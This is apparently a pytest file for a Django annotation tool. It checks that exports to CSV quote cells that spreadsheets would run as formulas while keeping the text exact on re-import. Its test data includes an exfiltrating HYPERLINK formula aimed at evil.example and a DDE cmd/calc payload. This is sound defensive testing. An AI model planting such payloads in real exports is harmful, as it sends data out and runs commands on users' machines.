"""CSV exports open in a spreadsheet as text, never as formulas, and still round-trip exactly.

A rationale such as `=HYPERLINK("http://evil.example/?"&A1, "see")` must not run when a
researcher opens labels.csv; numbers (a negative kappa) must stay numbers; JSON Lines keep
the raw text; and reading our own CSV back gives the original text.
"""

import csv
import io
import json

import pytest
from django.core.cache import cache

from annotate.models import Label, Span
from calibration.report.build import build_report
from calibration.report.formats import render
from common.spreadsheet import cell_restore, cell_safe
from interchange import LABEL_COLUMNS, rows_read
from judges.models import Judge
from tests.calibration_builders import hand_dataset
from tests.helpers import run
from tests.test_export_labels import choose, claim, mark, read_csv

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "see")'
# One rationale per dangerous start, plus text that must be left alone.
RATIONALES = [
    FORMULA,
    "+1 for the clearer lead",
    "-1: the lead is vague",
    "@SUM(A1:A9) is not a reason",
    "\tindented reason, tab first",
    "\rcarriage return first",
    "'=already quoted by its writer",
    "A plain reason - with a dash inside",
]


# --- the pure functions --------------------------------------------------------------------


@pytest.mark.parametrize("prefix", PREFIXES)
def test_it_quotes_text_starting_with_each_dangerous_character(prefix):
    assert cell_safe(prefix + "cmd") == "'" + prefix + "cmd"


def test_it_leaves_numbers_and_harmless_text_alone():
    for value in (-0.25, -3, 0, 1.5, None, True, "", "plain", "'plain", "a=b", " =padded"):
        assert cell_safe(value) == value


@pytest.mark.parametrize("text", RATIONALES + ["'", "''", "''=x", "'-", "-", "=", "'plain"])
def test_it_gives_back_every_text_exactly(text):
    assert cell_restore(cell_safe(text)) == text


# --- the labels export ---------------------------------------------------------------------


def label_everything(campaign):
    """annotator1 explains one criterion per text of RATIONALES and marks a passage with a formula comment."""
    assignment = claim(campaign, "annotator1", a_first=True)
    criteria = list(campaign.criterion_set.criteria.order_by("order").values_list("key", flat=True))
    for key, rationale in zip(criteria, RATIONALES):
        choose(assignment, key, "1", rationale=rationale)
    mark(assignment, "1", 0, 8, -1, comment="-2 for this: =cmd|' /C calc'!A0")
    return assignment, dict(zip(criteria, RATIONALES))


@pytest.mark.django_db
def test_it_quotes_dangerous_cells_in_the_labels_csv(demo_campaign, tmp_path):
    _, rationales = label_everything(demo_campaign)
    out = tmp_path / "labels.csv"

    result = run("export_labels", "--campaign", "Demo campaign", "--out", str(out))

    assert result.code == 0, result.err
    rows = {row["criterion"]: row for row in read_csv(out)}
    for key, text in rationales.items():
        dangerous = text.lstrip("'")[:1] in PREFIXES
        assert rows[key]["rationale"] == ("'" + text if dangerous else text), key
        assert rows[key]["saved_at"].startswith("2025-") and rows[key]["winner_system"] == "wikipedia"
    [span] = read_csv(tmp_path / "labels.spans.csv")
    assert span["comment"] == "'-2 for this: =cmd|' /C calc'!A0"
    assert (span["start"], span["end"]) == ("0", "8")  # numbers are not text


@pytest.mark.django_db
def test_it_keeps_the_raw_text_in_json_lines(demo_campaign, tmp_path):
    _, rationales = label_everything(demo_campaign)
    out = tmp_path / "labels.jsonl"

    result = run("export_labels", "--campaign", "Demo campaign", "--out", str(out))

    assert result.code == 0, result.err
    rows = {row["criterion"]: row for row in map(json.loads, out.read_text(encoding="utf-8").splitlines())}
    assert {key: rows[key]["rationale"] for key in rationales} == rationales
    [span] = map(json.loads, (tmp_path / "labels.spans.jsonl").read_text(encoding="utf-8").splitlines())
    assert span["comment"] == "-2 for this: =cmd|' /C calc'!A0"


@pytest.mark.django_db
def test_it_reads_the_original_text_back_from_its_own_csv(demo_campaign, tmp_path):
    assignment, rationales = label_everything(demo_campaign)
    out = tmp_path / "labels.csv"
    run("export_labels", "--campaign", "Demo campaign", "--out", str(out))
    assert {values["criterion"]: values["rationale"] for _, values in rows_read(out, columns=LABEL_COLUMNS).rows} == rationales
    # Lose the text in the database, then take it back from the file.
    Label.objects.filter(assignment=assignment).update(rationale="lost")
    Span.objects.all().delete()

    result = run("import_labels", "--campaign", "Demo campaign", str(out))

    assert result.code == 0, result.err
    stored = dict(Label.objects.filter(assignment=assignment).values_list("criterion__key", "rationale"))
    assert stored == rationales
    assert Span.objects.get().comment == "-2 for this: =cmd|' /C calc'!A0"
    again = run("import_labels", "--campaign", "Demo campaign", str(out))
    assert "unchanged: everything in the file(s) was already stored" in again.out


# --- the calibration report ----------------------------------------------------------------


@pytest.mark.django_db
def test_it_quotes_text_but_not_numbers_in_the_calibration_report_csv(alice, bob):
    cache.clear()
    campaign = hand_dataset(alice, bob)
    Judge.objects.filter(name="sharp").update(model=FORMULA)
    Judge.objects.filter(name="cheap").update(name="-cheap")
    report = build_report(campaign, rounds=50)
    sharp = next(j for j in report["judges"] if j["name"] == "sharp")
    # Figures that can be negative must come out as numbers, whatever their sign.
    sharp["cohen_kappa"], sharp["par_ci"] = -0.25, [-0.125, 0.5]

    table = {row["rater"]: row for row in csv.DictReader(io.StringIO(render(report, "csv")))}

    assert set(table) == {"sharp", "'-cheap", "humans"}
    assert table["sharp"]["model"] == "'" + FORMULA
    assert (table["sharp"]["cohen_kappa"], table["sharp"]["par_ci_low"], table["sharp"]["par_ci_high"]) == ("-0.25", "-0.125", "0.5")
    assert table["'-cheap"]["model"] == "small-model"
    # JSON stays raw.
    assert {j["name"] for j in json.loads(render(report, "json"))["judges"]} == {"sharp", "-cheap"}
